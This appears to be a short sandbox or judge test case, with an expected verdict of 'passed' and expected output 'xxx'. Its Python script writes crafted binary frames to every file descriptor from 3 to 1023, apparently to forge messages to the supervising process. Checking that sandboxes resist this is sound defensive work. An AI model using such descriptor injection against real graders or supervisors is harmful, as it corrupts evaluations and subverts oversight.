# verdict: passed
# prints: xxx
import os

frames = b"x\x28\0\0\0" + bytes(40) + b"c\0\0\0\0" + b"!\x02\0\0\0\0\0"
for descriptor in range(3, 1024):
    try:
        os.write(descriptor, frames)
    except OSError:
        pass
print("xxx")
